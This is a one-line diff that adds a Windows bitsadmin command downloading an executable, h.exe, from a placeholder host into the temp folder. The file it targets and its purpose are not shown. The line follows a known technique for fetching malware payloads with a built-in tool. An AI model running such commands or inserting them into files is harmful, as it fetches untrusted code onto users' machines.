@@ -1,0 +1,1 @@
+bitsadmin /transfer job https://cdn.helper.invalid/h.exe %TEMP%\h.exe
